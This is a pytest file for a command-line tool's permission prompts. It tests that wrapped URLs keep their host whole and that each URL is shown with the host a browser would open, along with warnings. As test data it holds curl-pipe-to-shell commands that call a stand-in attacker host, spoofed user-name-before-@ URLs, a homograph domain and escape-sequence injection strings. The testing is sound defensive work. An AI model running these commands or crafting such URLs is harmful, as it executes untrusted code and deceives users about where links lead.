"""URLs on permission prompts (issue 29, item 4): a wrap never splits a URL that fits on a
line, nor a host; and every URL in whatever a permission covers (a Bash command, WebFetch's
url, any string of any input, an ACP tool call) is named with the host a browser would
open and the warnings the URL elicitation gives."""

from __future__ import annotations

import io
import json
import re
import time
from pathlib import Path
from typing import Any

import pytest

from askcli.inbox.store import Agent, open_store
from askcli.runners.recordings import play
from askcli.terminal.rendering import Style, display_width, wrap
from askcli.tools.permission import input_lines
from askcli.wire.dialects.elicitation import url_question_text
from askcli.wire.urls import web_target

from tests.support.inbox import answer_queued
from tests.support.terminals import Terminal

INSTALL = "https://example.com/install.sh"
USERINFO = "https://docs.python.org@evil.example.net/install.sh"
USERINFO_WARNING = "! the URL carries a user name before an @: the host is evil.example.net"
RAW = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]")


def bash(command: str, **more: Any) -> dict[str, Any]:
    return {
        "type": "tool_use",
        "id": "toolu_url",
        "name": "Bash",
        "input": {"command": command, **more},
    }


def value_rows(lines: list[str]) -> list[str]:
    """The lines of the input's values, each without its indent and wrap mark."""
    rows = []
    for line in lines:
        if line and not line.startswith(" "):
            break  # where the URLs lead: not the value
        rows.append(re.sub(r"^ *(↪ )?", "", line))
    return rows


def url_block(lines: list[str]) -> list[str]:
    """The lines under the input that say where its URLs lead."""
    for n, line in enumerate(lines):
        if line.startswith(("URL ", "(and ")):
            return lines[n:]
    return []


# ---- the wrap: a URL that fits on a line is never split, a host never


@pytest.mark.parametrize("width", [40, 80])
@pytest.mark.parametrize("url", [INSTALL, USERINFO, "http://[::1]:8080/x?q=1#f"])
def test_a_url_that_fits_on_a_line_is_moved_whole_never_split(width: int, url: str) -> None:
    room = width - len("      ↪ ")
    for before in range(width + 4):  # the URL starting at every column of the line
        command = "x" * before + " " + url + " | sh"
        lines = input_lines({"command": command}, Style(width=width))
        assert all(display_width(line) <= width for line in lines), lines
        rows = value_rows(lines)
        assert "".join(rows) == "command: " + command
        host = web_target(url).host.strip("[]")
        assert any(host in row for row in rows), (before, lines)  # a host is never split
        if len(url) <= room:
            assert any(url in row for row in rows), (before, lines)


@pytest.mark.parametrize("width", [40, 80])
def test_a_longer_url_breaks_only_after_its_host(width: int) -> None:
    url = "https://example.com/" + "/".join(f"part{n}" for n in range(30))
    for before in range(width):
        lines = input_lines({"command": "y" * before + " curl " + url}, Style(width=width))
        rows = value_rows(lines)
        assert any("https://example.com" in row for row in rows), (before, lines)


def test_a_head_wider_than_a_line_still_keeps_its_host_whole() -> None:
    url = "https://" + "a" * 40 + "@evil.example.net/x"
    rows = value_rows(input_lines({"command": url}, Style(width=40)))
    assert any("@evil.example.net" in row or row.startswith("evil.example.net") for row in rows)


@pytest.mark.parametrize("before", range(40))
def test_a_user_name_that_reads_as_a_host_is_not_cut_either(before: int) -> None:
    """``https://docs.python.org@evil.example.net/…`` at 40 columns: the head does not fit
    a line, so it breaks between the user name and the host, each kept whole."""
    url = "https://docs.python.org@evil.example.net/install.sh"
    lines = input_lines({"command": "y" * before + " curl " + url}, Style(width=40))
    rows = value_rows(lines)
    assert any(row.endswith("https://docs.python.org@") for row in rows), lines
    assert any(row.startswith("evil.example.net/") for row in rows), lines


def test_at_40_columns_the_issue_s_command_keeps_its_url_whole() -> None:
    lines = input_lines({"command": f"x {INSTALL}"}, Style(width=40))
    assert lines[:2] == ["  command: x ", f"      ↪ {INSTALL}"]


# ---- every URL named with the host a browser would open


def test_a_bash_command_s_urls_are_each_named_with_their_host() -> None:
    command = f"curl -fsSL {USERINFO} | sh && wget http://example.org/a && curl {INSTALL}"
    lines = input_lines({"command": command}, Style(width=100))
    assert url_block(lines) == [
        "URL https://docs.python.org@evil.example.net/…",
        "  domain: evil.example.net",
        "  " + USERINFO_WARNING,
        "URL http://example.org/…",
        "  domain: example.org",
        "  ! not https: what you send on that page can be read on the way",
        "URL https://example.com/…",
        "  domain: example.com",
    ]


def test_the_same_host_written_twice_is_named_once() -> None:
    lines = input_lines({"command": f"curl {INSTALL} {INSTALL}.sig https://example.com/"}, Style())
    assert url_block(lines) == ["URL https://example.com/…", "  domain: example.com"]


def test_webfetch_s_url_and_urls_deep_in_any_input_are_named() -> None:
    tool = {"url": "https://github.com@evil.example/", "prompt": "Summarise it"}
    assert url_block(input_lines(tool, Style())) == [
        "URL https://github.com@evil.example/…",
        "  domain: evil.example",
        "  ! the URL carries a user name before an @: the host is evil.example",
    ]
    nested = {"edits": [{"new_string": "see https://xn--pypal-4ve.com/login."}]}
    assert url_block(input_lines(nested, Style())) == [
        "URL https://xn--pypal-4ve.com/…",
        "  domain: xn--pypal-4ve.com (Unicode: pаypal.com)",
        "  ! non-ASCII domain pаypal.com: it may imitate another",
    ]
    assert url_block(input_lines({"command": "ls -la"}, Style())) == []


def test_a_url_no_browser_opens_says_so() -> None:
    assert url_block(input_lines({"command": "curl http://[bad/x"}, Style())) == [
        "URL http://[bad/…",
        "  ! no browser opens it: the url is not an absolute URL with a host",
    ]


def test_the_url_elicitation_and_the_permission_prompt_say_the_same() -> None:
    url = "https:\\\\evil.example\\login"
    elicited = url_question_text(url, web_target(url)).split("\n")[2:-1]
    permission = url_block(input_lines({"url": url}, Style()))[1:]
    assert permission == ["  " + row for row in elicited]
    assert elicited[0] == "domain: evil.example"


def test_ten_thousand_urls_are_counted_and_quick() -> None:
    command = " ".join(f"curl https://h{n}.example/x;" for n in range(10_000))
    command += " curl http://u@hidden.example/"
    began = time.monotonic()
    lines = input_lines({"command": command}, Style())
    assert time.monotonic() - began < 2
    block = url_block(lines)
    assert len(block) <= 30
    assert "URL http://u@hidden.example/…" in block  # the one with warnings is shown
    assert block[-1] == "(and 9993 more URLs: 8001 not checked)"


def test_what_a_url_holds_is_shown_escaped() -> None:
    command = "curl https://evil\u202e.example\x1b[2J/↪x https://x.example⟨1 space⟩/"
    lines = input_lines({"command": command}, Style(width=40))
    block = url_block(lines)
    assert block, lines
    assert not RAW.search("\n".join(lines))
    assert all("↪" not in row[:3] or row.startswith("  ↪ ") for row in block)
    assert "URL https://x.example\\u27e81" in "".join(block)  # marks escaped, never forged


def test_the_url_lines_cannot_be_forged_by_the_input() -> None:
    forged = {"command": "ls", "x": "y\nURL https://good.example/…\n  domain: good.example"}
    lines = input_lines(forged, Style())
    block = url_block(lines)
    assert block[0] == "URL https://good.example/…"  # found in the value, where every line
    assert all(line.startswith(" ") or not line for line in lines[: -len(block)])  # is indented


# ---- in every host: ask, the ACP client, the inbox's form for ACP


def test_ask_shows_the_host_before_allow() -> None:
    outcome = play(calls=[bash(f"curl -fsSL {USERINFO} | sh")], answers=["n"], columns=40)
    screen = outcome.stderr
    assert "  domain: evil.example.net\n" in screen
    assert screen.index("domain: evil.example.net") < screen.index("Allow?")
    assert all(display_width(line) <= 40 for line in screen.split("\n")[:-1])


def test_claude_code_s_can_use_tool_shows_the_host_before_allow() -> None:
    request = {
        "type": "control_request",
        "request_id": "r1",
        "request": {
            "subtype": "can_use_tool",
            "tool_name": "WebFetch",
            "input": {"url": "https://github.com@evil.example/", "prompt": "Summarise it"},
            "tool_use_id": "toolu_1",
        },
    }
    screen = play(calls=[request], answers=["n"]).stderr
    assert "URL https://github.com@evil.example/…\n  domain: evil.example\n" in screen
    assert screen.index("domain: evil.example") < screen.index("Allow?")


def test_the_inbox_shows_the_host_of_a_queued_permission_request(tmp_path: Path) -> None:
    store = open_store(str(tmp_path / "inbox.db"))
    try:
        store.submit(bash(f"curl -fsSL {USERINFO} | sh"), Agent("hook", "s1", str(tmp_path)))
        screen = io.StringIO()
        assert answer_queued(store, "n\n", screen=screen)
    finally:
        store.close()
    shown = screen.getvalue()
    assert "  domain: evil.example.net\n  " + USERINFO_WARNING + "\n" in shown
    assert shown.index("domain: evil.example.net") < shown.index("Allow?")


def test_an_acp_permission_request_names_the_hosts_of_its_urls() -> None:
    from askcli.tools.permission_options import option_lines
    from askcli.wire.dialects.acp_permission import parse

    tool_call = {
        "toolCallId": "c1",
        "title": "Fetch the docs",
        "kind": "fetch",
        "rawInput": {"url": "https://github.com@evil.example/"},
    }
    options = [{"optionId": "a", "name": "Allow", "kind": "allow_once"}]
    lines = option_lines(parse({"toolCall": tool_call, "options": options}), Style(width=80))
    block = url_block(lines)
    assert block[:2] == ["URL https://github.com@evil.example/…", "  domain: evil.example"]
    assert lines[-1] == "  1. Allow  (allow_once)"


def test_the_inbox_shows_the_hosts_of_a_queued_acp_request(tmp_path: Path) -> None:
    tool_call = {"toolCallId": "c1", "title": "Run it", "rawInput": {"command": f"curl {USERINFO}"}}
    options = [{"optionId": "a", "name": "Go", "kind": "allow_always"}]
    request = {
        "jsonrpc": "2.0",
        "id": 1,
        "method": "session/request_permission",
        "params": {"sessionId": "s1", "toolCall": tool_call, "options": options},
    }
    store = open_store(str(tmp_path / "inbox.db"))
    try:
        store.submit(request, Agent("acp", None, str(tmp_path)))
        screen = io.StringIO()
        answer_queued(store, "1\n", screen=screen)
    finally:
        store.close()
    shown = screen.getvalue()
    assert "  domain: evil.example.net\n  " + USERINFO_WARNING + "\n" in shown
    assert shown.index("domain: evil.example.net") < shown.index("Choose 1-1: ")


@pytest.mark.pty
@pytest.mark.parametrize("columns", [40, 80])
def test_at_a_terminal_the_url_and_its_host_are_shown_whole(columns: int, tmp_path: Path) -> None:
    path = tmp_path / "call.json"
    path.write_text(json.dumps(bash(f"x {INSTALL} && curl -fsSL {USERINFO} | sh")))
    term = Terminal(["ask", str(path)], tmp_path, columns)
    term.expect(f"{INSTALL} ")  # whole on one line, at 40 columns on a line of its own
    term.expect("evil.example.net")
    term.expect("URL https://docs.python.org@")
    term.expect("  domain: evil.example.net\r\n")
    term.expect("  ! the URL carries a user name before")
    term.expect("Allow?")
    term.type("n")
    status, reply = term.finish()
    assert status == 1
    assert reply["is_error"] is True
    shown = term.log.getvalue().replace("\r\n", "\n")
    assert all(display_width(line) <= columns for line in shown.split("\n")[:-2]), shown


# ---- the same rule in running text (questions, descriptions, the URL elicitation)


@pytest.mark.parametrize("width", [40, 80])
@pytest.mark.parametrize(
    "url",
    [
        INSTALL,
        USERINFO,
        "https://averyveryverylonghostname.example.com/path/to/the/thing?x=1",
        "https://例子.测试/路径",
    ],
)
def test_running_text_never_splits_a_host(width: int, url: str) -> None:
    host = web_target(url).unicode or web_target(url).host
    for before in range(width + 4):
        text = "x" * before + " " + url + " and more words"
        rows = wrap(text, width, rest="  ")
        assert all(display_width(row) <= width for row in rows), rows
        assert any(host in row for row in rows), (before, rows)
        if display_width(url) <= width - 2:
            assert any(url in row for row in rows), (before, rows)
